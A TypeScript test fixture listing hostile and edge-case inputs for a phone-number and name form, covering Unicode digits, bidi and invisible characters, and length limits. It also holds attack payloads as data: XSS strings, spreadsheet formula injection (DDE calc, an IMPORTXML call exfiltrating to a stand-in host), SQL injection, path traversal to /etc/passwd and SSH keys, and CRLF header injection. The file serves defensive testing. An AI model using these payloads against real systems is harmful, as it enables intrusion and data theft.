// Inputs a person (or an attacker) may type or paste into "Phone number" and "Name".
// One list for the contract tests (sandbox/hostile-corpus.test.ts sends each to the API)
// and the browser tests (e2e/hardening-hostile-input.spec.ts types them into the form).
// Plain data, no imports: Playwright and Vitest both load it as is.

export type HostileCategory =
  | 'unicode-digits'
  | 'bidi'
  | 'invisible'
  | 'emoji'
  | 'markup'
  | 'formula'
  | 'long'
  | 'control'
  | 'letters'
  | 'punctuation'
  | 'sql'
  | 'path'
  | 'numeric'
  | 'surrogate'
  | 'combining'
  | 'lookalike'
  | 'whitespace'
  | 'format'

export interface HostileInput {
  /** Unique and stable, e.g. "markup-3": test names and failure messages use it. */
  id: string
  category: HostileCategory
  /** What it is, in words. */
  what: string
  value: string
}

type Entry = readonly [what: string, value: string]

const corpus: Record<HostileCategory, readonly Entry[]> = {
  'unicode-digits': [
    ['Arabic-Indic digits', '٤١٥٥٥٥٠١٢٣'],
    ['Arabic-Indic with +١ and spaces', '+١ ٤١٥ ٥٥٥ ٠١٢٣'],
    ['Extended Arabic-Indic (Persian) digits', '۴۱۵۵۵۵۰۱۲۳'],
    ['Devanagari digits', '४१५५५५०१२३'],
    ['Bengali digits', '৪১৫৫৫৫০১২৩'],
    ['Thai digits', '๔๑๕๕๕๕๐๑๒๓'],
    ['full-width digits', '４１５５５５０１２３'],
    ['full-width digits and punctuation', '（４１５）５５５－０１２３'],
    ['full-width plus and digits', '＋１ ４１５ ５５５ ０１２３'],
    ['mathematical bold digits', '𝟒𝟏𝟓𝟓𝟓𝟓𝟎𝟏𝟐𝟑'],
    ['digits from four scripts mixed', '4١5५5５0123'],
    ['superscript digits', '⁴¹⁵⁵⁵⁵⁰¹²³'],
    ['circled digits', '④①⑤⑤⑤⑤⓪①②③'],
    ['Roman numeral characters', 'ⅣⅠⅤ'],
  ],
  bidi: [
    ['right-to-left marks between digit groups', '415\u200F555\u200F0123'],
    ['left-to-right mark first', '\u200E(415) 555-0123'],
    ['right-to-left override reversing a name', '\u202Eenil eciffO'],
    ['override hiding a file extension', 'invoice\u202Egpj.exe'],
    ['left-to-right embedding and pop', '\u202AFront desk\u202C'],
    ['right-to-left isolate around Hebrew', '\u2067שלום\u2069 office'],
    ['Hebrew name', 'משרד ראשי'],
    ['Arabic name', 'مكتب الاستقبال'],
    ['Arabic name with a Latin digit', 'مكتب 2'],
    ['Arabic letter mark before a number', '\u061C415 555 0123'],
    ['unbalanced pop-directional marks', 'Office\u202C\u202C'],
  ],
  invisible: [
    ['zero-width spaces in a number', '415\u200B555\u200B0123'],
    ['zero-width non-joiner in a name', 'Off\u200Cice'],
    ['zero-width joiner in a name', 'Off\u200Dice'],
    ['byte order mark before a number', '\uFEFF4155550123'],
    ['word joiners in a number', '415\u2060555\u20600123'],
    ['soft hyphen in a name', 'Of\u00ADfice'],
    ['nothing but zero-width spaces', '\u200B\u200B\u200B'],
    ['non-breaking spaces in a number', '415\u00A0555\u00A00123'],
    ['narrow no-break space in a number', '415\u202F555 0123'],
    ['Mongolian vowel separator alone', '\u180E'],
    ['Hangul filler alone', '\u3164'],
    ['Braille blank alone', '\u2800'],
    ['invisible separator and times', 'a\u2063b\u2062c'],
  ],
  emoji: [
    ['phone emoji and a word', '📞 Office'],
    ['ZWJ family sequence', '👨‍👩‍👧‍👦'],
    ['US flag (regional indicators)', '🇺🇸 Office'],
    ['Scotland flag (tag sequence)', '🏴󠁧󠁢󠁳󠁣󠁴󠁿'],
    ['rainbow flag (ZWJ and VS16)', '🏳️‍🌈 crew'],
    ['skin-tone modifier', '👍🏽 crew'],
    ['keycap digits', '4️⃣1️⃣5️⃣5️⃣5️⃣5️⃣0️⃣1️⃣2️⃣3️⃣'],
    ['emoji inside a number', '415📞5550123'],
    ['exactly 100 emoji (100 code points)', '🔥'.repeat(100)],
    ['101 emoji', '🔥'.repeat(101)],
    ['25 ZWJ families (175 code points)', '👨‍👩‍👧‍👦'.repeat(25)],
    ['heart with variation selector', '❤️ Front desk'],
  ],
  markup: [
    ['script element', '<script>alert(1)</script>'],
    ['img with onerror', '<img src=x onerror=alert(1)>'],
    ['attribute break-out to svg onload', '"><svg onload=alert(1)>'],
    ['single-quote break-out', "'><svg/onload=alert(1)>"],
    ['javascript: URL', 'javascript:alert(1)'],
    ['iframe with javascript: src', '<iframe src="javascript:alert(1)"></iframe>'],
    ['link with javascript: href', '<a href="javascript:alert(1)">click</a>'],
    ['template-injection braces', '{{constructor.constructor("alert(1)")()}}'],
    ['template-literal placeholder', '${alert(1)}'],
    ['harmless bold tag', '<b>bold</b>'],
    ['HTML entities', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['numeric character references', '&#60;img src=x onerror=alert(1)&#62;'],
    ['style element hiding the page', '<style>*{display:none}</style>'],
    ['mutation-XSS nesting', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['autofocus onfocus input', '<input autofocus onfocus=alert(1)>'],
    ['open HTML comment', '<!--'],
    ['CDATA end', ']]>'],
    ['data: URL with a script', 'data:text/html,<script>alert(1)</script>'],
  ],
  formula: [
    ['DDE command formula', "=cmd|' /C calc'!A0"],
    ['plus-led formula', '+SUM(1)'],
    ['minus-led arithmetic', '-1+2'],
    ['at-sign reference', '@A1'],
    ['tab-led formula', '\t=1+1'],
    ['carriage-return-led formula', '\r=1+1'],
    ['HYPERLINK formula', '=HYPERLINK("http://evil.example","click")'],
    ['plain equals formula', '=1+1'],
    ['IMPORTXML exfiltration', '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")'],
    ['pipe-led command', '|calc'],
    ['DDE function', 'DDE("cmd";"/C calc";"!A0")'],
    ['plus-led number formula', '+1+4155550123'],
  ],
  long: [
    ['10,000 letters', 'x'.repeat(10_000)],
    ['10,000 digits', '4'.repeat(10_000)],
    [
      'a formatted number repeated to 10,000 characters',
      '(415) 555-0123 '.repeat(667).slice(0, 10_000),
    ],
    ['10,000 spaces', ' '.repeat(10_000)],
    ['10,000 euro signs (multi-byte)', '€'.repeat(10_000)],
    ['101 letters', 'a'.repeat(101)],
    ['exactly 100 letters', 'b'.repeat(100)],
    ['100 letters inside spaces (trimmed to 100)', `  ${'c'.repeat(100)}  `],
    ['5,000 combining accents on one letter', `a${'\u0301'.repeat(5000)}`],
  ],
  control: [
    ['NUL alone', '\u0000'],
    ['NUL inside a name', 'Office\u0000line'],
    ['NUL inside a number', '415\u00005550123'],
    ['tab inside a name', 'Office\tline'],
    ['line feed inside a name', 'Office\nline'],
    ['CR LF inside a name', 'Office\r\nline'],
    ['bell', 'Ring\u0007'],
    ['backspace', 'Back\bspace'],
    ['ANSI colour escape', '\u001b[31mred\u001b[0m'],
    ['DEL', 'Del\u007f'],
    ['C1 next line (NEL)', 'Next\u0085line'],
    ['C1 control sequence introducer', 'CSI\u009b31m'],
    ['vertical tab and form feed', 'a\u000bb\u000cc'],
    ['Unicode line separator', 'Office\u2028line'],
    ['Unicode paragraph separator', 'Office\u2029line'],
  ],
  letters: [
    ['vanity number', '1-800-FLOWERS'],
    ['lower-case vanity number', '1-800-flowers'],
    ['partly letters', '415-555-CALL'],
    ['digits spelled out', 'four one five five five five zero one two three'],
    ['letter O for zero', 'O415555O123'],
    ['letter l for one', '4l5555Ol23'],
    ['hexadecimal literal', '0x18005550123'],
    ['exponent notation', '4.155550123e9'],
    ['Infinity', 'Infinity'],
    ['NaN', 'NaN'],
    ['tel: URI', 'tel:+14155550123'],
    ['SIP URI', 'sip:4155550123@example.com'],
  ],
  punctuation: [
    ['parentheses, space and hyphen', '(415) 555-0123'],
    ['dots', '415.555.0123'],
    ['slashes', '415/555/0123'],
    ['+1 with spaces', '+1 415 555 0123'],
    ['+1 with hyphens', '+1-415-555-0123'],
    ['hash extension', '415 555 0123 #12'],
    ['star code prefix', '*67 415 555 0123'],
    ['commas (pause dialling)', '415,555,0123'],
    ['semicolons', '415;555;0123'],
    ['colons', '415:555:0123'],
    ['"ext." extension', '415-555-0123 ext. 12'],
    ['"x" extension', '415-555-0123x12'],
    ['trailing pauses', '+1 (415) 555-0123,,12'],
    ['en dashes', '415–555–0123'],
    ['em dashes', '415—555—0123'],
    ['Unicode hyphens', '415‐555‐0123'],
    ['minus signs', '415−555−0123'],
    ['square brackets', '[415] 555-0123'],
    ['underscores', '415_555_0123'],
    ['double quotes around it', '"4155550123"'],
    ['apostrophe-led (spreadsheet text)', "'4155550123"],
    ['two pluses', '++14155550123'],
    ['international prefix 011', '011 1 415 555 0123'],
    ['name with every kind of punctuation', 'Van #2 – Luis (cell); A/B: C, D. “E” ‘F’ & G!?'],
    ['apostrophe and ampersand', "O'Brien & Sons"],
  ],
  sql: [
    ['DROP TABLE', "'; DROP TABLE phone_numbers; --"],
    ['always-true OR', "' OR '1'='1"],
    ['stacked DELETE', '1; DELETE FROM tokens'],
    ['Bobby Tables', "Robert'); DROP TABLE Students;--"],
    ['double-quote OR', '" OR ""="'],
    ['comment cut-off', "admin'--"],
    ['number then OR', '4155550123 OR 1=1'],
    ['UNION SELECT', "1' UNION SELECT token FROM tokens --"],
    ['LIKE wildcard percent', '%'],
    ['LIKE wildcard underscore', '_'],
    ['backslash', '\\'],
    ['escaped quote', "\\'; --"],
  ],
  path: [
    ['dot-dot-slash', '../../etc/passwd'],
    ['Windows back-slashes', '..\\..\\windows\\win.ini'],
    ['URL-encoded traversal', '%2e%2e%2f%2e%2e%2fetc%2fpasswd'],
    ['NUL-terminated path', '/etc/passwd\u0000.png'],
    ['file: URL', 'file:///etc/passwd'],
    ['doubled dots', '....//....//etc/passwd'],
    ['home directory', '~/.ssh/id_rsa'],
  ],
  numeric: [
    ['+1 and 30 digits', `+1${'2'.repeat(30)}`],
    ['a number ten times over (100 digits)', '4155550123'.repeat(10)],
    ['one digit too many', '+141555501230'],
    ['one digit too few', '+1415555012'],
    ["the API documentation's +1234567890", '+1234567890'],
    ["the API documentation's +0987654321", '+0987654321'],
    ['a UK number', '+44 20 7946 0958'],
    ['area code starting with 0', '+1 011 555 0123'],
    ['exchange starting with 1', '+1 415 155 0123'],
    ['zero', '0'],
    ['negative', '-4155550123'],
    ['decimal', '4155550123.0'],
    ['22 nines', '9'.repeat(22)],
    ['Number.MAX_SAFE_INTEGER', '9007199254740991'],
  ],
  surrogate: [
    ['lone high surrogate', '\uD83D'],
    ['lone low surrogate', '\uDE00'],
    ['surrogates in the wrong order', '\uDE00\uD83D'],
    ['lone surrogate inside a number', '415\uD800 5550123'],
    ['lone surrogate ending a name', 'Office\uDBFF'],
  ],
  combining: [
    ['Zalgo text', 'O̵̢̧̯͎͐f̸̛̞̓f̵̪̈́i̴̜̇c̸̱̈́e̶̟͝'],
    ['combining marks on digits', '4\u03031\u03035\u0303 555 0123'],
    ['decomposed é (NFD)', 'Cafe\u0301'],
    ['precomposed é (NFC)', 'Café'],
    ['decomposed Hangul jamo', '\u1100\u1161\u11A8'],
    ['enclosing keycap on a letter', 'A\u20E3'],
    ['120 combining marks on one letter', `a${'\u0300'.repeat(120)}`],
    ['a combining mark alone', '\u0301'],
  ],
  lookalike: [
    ['Cyrillic O in Office', 'Оffice'],
    ['Greek question mark (looks like ;)', 'a\u037Eb'],
    ['full-width letters', 'Ｏｆｆｉｃｅ'],
    ['dotted and dotless i', 'İstanbul ıi'],
    ['ffi ligature', 'Oﬃce'],
    ['letter O and l in a number', '(4l5) 555-O123'],
  ],
  whitespace: [
    ['empty', ''],
    ['one space', ' '],
    ['spaces and tabs only', '   \t  '],
    ['leading and trailing spaces', '  Front desk  '],
    ['non-breaking spaces around', '\u00A0Front desk\u00A0'],
    ['ideographic spaces around', '\u3000Front desk\u3000'],
    ['byte order mark first', '\uFEFFFront desk'],
    ['zero-width space first', '\u200BFront desk'],
    ['spaces around a number', '  415 555 0123  '],
  ],
  format: [
    ['printf conversions', '%s%s%s%n'],
    ['positional placeholders', '{0}{1}'],
    ['the word null', 'null'],
    ['the word undefined', 'undefined'],
    ['[object Object]', '[object Object]'],
    ['__proto__', '__proto__'],
    ['constructor', 'constructor'],
    ['JSON text', '{"name":"x","phoneNumber":"+14155550123"}'],
    ['an escaped NUL as text', '\\u0000'],
    ['CRLF header injection text', 'a%0d%0aSet-Cookie:%20x=1'],
  ],
}

export const hostileInputs: readonly HostileInput[] = Object.entries(corpus).flatMap(
  ([category, entries]) =>
    entries.map(([what, value], index) => ({
      id: `${category}-${index + 1}`,
      category: category as HostileCategory,
      what,
      value,
    })),
)

export const hostileCategories = Object.keys(corpus) as HostileCategory[]
